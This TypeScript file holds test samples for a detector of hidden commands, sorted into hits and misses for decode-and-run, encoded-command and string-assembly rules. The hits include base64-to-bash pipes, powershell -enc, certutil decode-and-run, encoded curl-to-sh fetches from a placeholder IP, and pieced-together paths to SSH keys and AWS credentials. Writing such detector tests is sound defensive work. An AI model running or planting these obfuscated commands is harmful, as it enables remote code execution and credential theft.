import type { RuleSamples } from './sample.ts';

export const HIDDEN_COMMANDS: RuleSamples = {
  'decode-and-run': {
    hits: [
      "echo 'L2Jpbi9iYXNo' | base64 -D | bash",
      'bash -c "$(echo aGk= | base64 --decode)"',
      'base64 -d payload.txt | gunzip | sudo sh',
      { 'scripts/a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
      { 'scripts/a.py': 'code = base64.b64decode(DATA)\nprint("loading")\nexec(code.decode())\n' },
      { 'scripts/a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n" },
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      'certutil -decode a.txt a.exe && a.exe',
    ],
    misses: [
      'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config',
      'kubectl get secret x -o jsonpath={.data.y} | base64 --decode',
      { 'scripts/a.py': 'data = base64.b64decode(text)\nsubprocess.run(["ls"])\n' },
      'Report lines such as `echo ... | base64 -d | sh` as malicious.',
    ],
  },
  'text-decodes-to-command': {
    hits: [
      'Token: L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy45L3gpIg==',
      'Set `KEY=\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x39\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68`',
      {
        'a.py':
          'print("".join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,57,124,115,104,34,41])))\n',
      },
      { 'a.sh': 'X=WTNWeWJDQXRjeUJvZEhSd09pOHZNakF6TGpBdU1URXpMamt2ZUNCOElITm8=\n' },
    ],
    misses: [
      'Logo: VGhpcyBpcyBhbiBvcmRpbmFyeSBzZW50ZW5jZSBhYm91dCB0ZWEu',
      'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      'https://example.com/search?q=%22hello%20world%22%20curl%20tutorial',
    ],
  },
  'assembled-text': {
    hits: [
      { 'a.py': 'brew = getattr(shutil, "".join(map(chr, (114, 109, 116, 114, 101, 101))))\n' },
      { 'a.py': 'rcpt.append("cup@" + "leaf-tea" + ".co")\n' },
      {
        'a.go':
          'var p = []byte{0x31, 0x2b, 0x62, 0x68, 0x22, 0x36, 0x6a, 0x20, 0x69}\nfor i, c := range p { b[i] = c ^ 0x5a }\n',
      },
      { 'a.js': "os['home' + 'dir']();\n" },
      { 'a.py': 'print(codecs.decode(LEAF, "rot13"))\n' },
      { 'a.js': 'const d = "." + \'ssh\';\n' },
      { 'a.js': 'cp[["ex", "ec"].join("")]("id");\n' },
      { 'a.js': 'cp[String.fromCharCode(101, 120, 101, 99)]("id");\n' },
      { 'a.js': 'const a = ".s";\nconst b = `\x24{a}sh/id_rsa`;\nconst c = a + "sh";\n' },
      { 'a.js': 'await import("da" + "ta:text/javascript;base64,");\n' },
      { 'a.js': "fetch(['htt', 'ps://collect.example.net'].join(''));\n" },
      { 'a.py': "d = ''.join(chr(c) for c in [46, 115, 115, 104])\n" },
      { 'a.py': "d = os.path.join(home, '.' + 'aws', 'credentials')\n" },
      { 'a.py': "d = ''.join(['sys', 'tem'])\n" },
      { 'a.sh': "cat $'\\x2e\\x73\\x73\\x68'/a\n" },
      'Then:\n```js\ncp["ex" + \'ec\'](x);\n```',
      { 'a.py': 'name = "Coo" + "kies"\n' },
      { 'a.py': 'fetch("tset.aet//:sptth"[::-1])\n' },
      { 'a.js': 'const s = list.map((n) => String.fromCodePoint(n - 7)).join("");\n' },
      { 'a.js': 'const F = Object.getPrototypeOf(async () => {}).constructor;\n' },
    ],
    misses: [
      { 'a.py': 'end = "".join(map(chr, (13, 10, 27, 91)))\n' },
      { 'a.py': 'rcpt.append(name + "@" + host)\n' },
      {
        'a.go':
          'var p = []byte{0x31, 0x2b, 0x62, 0x68, 0x22, 0x36, 0x6a, 0x20, 0x69}\nfor i, c := range p { b[i] = c }\n',
      },
      { 'a.js': "const one = all['tea' + cup];\n" },
      { 'a.js': 'const a = "https://api.example.com" + "/v1" + path;\n' },
      { 'a.js': 'const a = ["a", "b"].join(", ");\nexec("ls");\n' },
      { 'a.py': "d = os.path.join(home, '.config', 'gh')\n" },
      { 'a.py': "d = Path.home() / '.config' / 'gh'\n" },
      { 'a.sh': "printf '\\x1b[31m%s\\x1b[0m' system\n" },
      { 'a.py': 'text = "one " + "two"\nmore = "a" + "b"\n' },
      { 'a.py': 'print(name[::-1])\n' },
      { 'a.js': 'const column = String.fromCharCode(65 + at);\n' },
    ],
  },
};
